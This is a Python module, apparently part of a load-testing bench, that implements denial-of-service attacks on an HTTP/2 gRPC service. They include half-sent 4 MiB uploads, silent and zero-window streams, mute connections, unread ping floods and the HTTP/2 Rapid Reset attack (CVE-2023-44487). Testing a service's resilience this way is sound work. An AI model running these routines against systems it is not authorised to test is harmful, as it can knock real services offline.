"""Peers that hold on to what they have: half-sent requests, silent streams, watchers who never read, connections that say nothing.

Every attack takes an address and an exit stack, opens its connections, and leaves them open until the stack is closed.
"""

from __future__ import annotations

import contextlib
import select
import time
from collections.abc import Callable, Mapping

from bench.load.wire.http2 import ACK, DATA, INITIAL_WINDOW, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, Connection, frame, grpc_message

SERVICE, HEALTH = b"/f2edge.v1.FaceService/", b"/grpc.health.v1.Health/"
REFLECTION = b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
_MESSAGE_BYTES = (4 << 20) - 100

Attack = Callable[[str, contextlib.ExitStack], None]


class Uploader:
    """A call whose message never ends, sent as fast as the server's windows allow."""

    def __init__(self, connection: Connection, path: bytes, size: int = _MESSAGE_BYTES) -> None:
        self._connection = connection
        self._stream = connection.call(path, end=False)
        self._left = b"\x0a" + b"x" * size
        self._left = grpc_message(self._left, length=len(self._left) + 1000)
        self._window = {0: 65535, self._stream: 65535}
        self._ended = False
        self.sent = 0

    def push(self) -> bool:
        """Send what may be sent; False where the server has ended the call or nothing is left."""
        if self._ended:
            return False
        self._listen()
        while self._left and (room := min(self._window.values(), default=0)) > 0:
            piece, self._left = self._left[: min(room, 16384)], self._left[min(room, 16384) :]
            self._connection.send(frame(DATA, 0, self._stream, piece))
            self.sent += len(piece)
            for key in self._window:
                self._window[key] -= len(piece)
        return bool(self._left) and not self._ended

    def _listen(self) -> None:
        ready = select.select([self._connection.socket], [], [], 0)[0]
        if not ready:
            return
        self._connection.socket.settimeout(0.01)
        try:
            for kind, flags, stream, body in self._connection.frames():
                self._take(kind, flags, stream, body)
            self._ended = True
        except (TimeoutError, OSError):
            pass
        finally:
            self._connection.socket.settimeout(5)

    def _take(self, kind: int, flags: int, stream: int, body: bytes) -> None:
        if kind == WINDOW_UPDATE and stream in self._window:
            self._window[stream] += int.from_bytes(body, "big")
        elif kind == SETTINGS and not flags & ACK:
            for at in range(0, len(body), 6):
                if int.from_bytes(body[at : at + 2], "big") == INITIAL_WINDOW:
                    self._window[self._stream] += int.from_bytes(body[at + 2 : at + 6], "big") - 65535
            self._connection.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self._connection.send(frame(PING, ACK, 0, body))
        elif kind == RST_STREAM or (kind == 1 and stream == self._stream):
            self._ended = True


def half_sent(count: int, path: bytes = SERVICE + b"Ask", seconds: float = 10.0) -> Attack:
    """Calls of 4 MiB that lack their last bytes, each over a connection of its own."""

    def attack(address: str, stack: contextlib.ExitStack) -> None:
        uploads = []
        for _ in range(count):
            with contextlib.suppress(OSError):
                uploads.append(Uploader(stack.enter_context(Connection(address)), path))
        until, idle = time.monotonic() + seconds, 0
        while time.monotonic() < until and idle < 5:
            before = sum(upload.sent for upload in uploads)
            for upload in uploads:
                with contextlib.suppress(OSError):
                    upload.push()
            time.sleep(0.05)
            idle = 0 if sum(upload.sent for upload in uploads) > before else idle + 1

    return attack


def silent(count: int, path: bytes, *, message: bytes = b"", end: bool = False, calls: int = 1, window: int | None = None) -> Attack:
    """``count`` connections with ``calls`` calls each that say no more; a ``window`` of 0 lets the server say nothing either."""

    def attack(address: str, stack: contextlib.ExitStack) -> None:
        settings = () if window is None else ((INITIAL_WINDOW, window),)
        for _ in range(count):
            with contextlib.suppress(OSError):
                connection = stack.enter_context(Connection(address, settings=settings))
                connection.send(frame(SETTINGS, ACK, 0))
                for _ in range(calls):
                    connection.call(path, message, end=end)

    return attack


def mute(count: int, *, hello: bool = False) -> Attack:
    """Connections that say nothing at all, or nothing after their greeting."""

    def attack(address: str, stack: contextlib.ExitStack) -> None:
        for _ in range(count):
            with contextlib.suppress(OSError):
                stack.enter_context(Connection(address, hello=hello))

    return attack


def unread_pings(address: str, stack: contextlib.ExitStack) -> None:
    """Pings whose answers are not read, until the server's buffers and the kernel's are full."""
    connection = stack.enter_context(Connection(address, receive_bytes=2048, timeout_s=1.0))
    with contextlib.suppress(OSError):
        for _ in range(1000):
            connection.send(frame(PING, 0, 0, bytes(8)) * 200)


def resets(count: int) -> Attack:
    """Calls that are cancelled as soon as they are made, as many as fit (CVE-2023-44487)."""

    def attack(address: str, stack: contextlib.ExitStack) -> None:
        connection = stack.enter_context(Connection(address))
        with contextlib.suppress(OSError):
            for _ in range(count):
                stream = connection.call(SERVICE + b"Ask", grpc_message(b""), end=False)
                connection.send(frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big")))

    return attack


_EMPTY = grpc_message(b"")
ATTACKS: Mapping[str, Attack] = {
    "half-sent requests of 4 MiB": half_sent(40, seconds=3.0),
    "half-sent health checks of 4 MiB": half_sent(20, HEALTH + b"Check", seconds=3.0),
    "calls without a message": silent(8, SERVICE + b"Ask", calls=32),
    "silent frame streams": silent(4, SERVICE + b"AnalyzeStream", calls=8),
    "health watchers": silent(4, HEALTH + b"Watch", message=_EMPTY, end=True, calls=100),
    "health watchers without a window": silent(4, HEALTH + b"Watch", message=_EMPTY, end=True, calls=20, window=0),
    "health watchers, half open": silent(4, HEALTH + b"Watch", message=_EMPTY, calls=20),
    "answers without a window": silent(4, SERVICE + b"GetModel", message=_EMPTY, end=True, calls=20, window=0),
    "reflection streams": silent(4, REFLECTION, calls=20),
    "mute connections": mute(100),
    "connections without a call": mute(50, hello=True),
    "pings whose answers are not read": unread_pings,
    "calls reset at once": resets(2000),
}
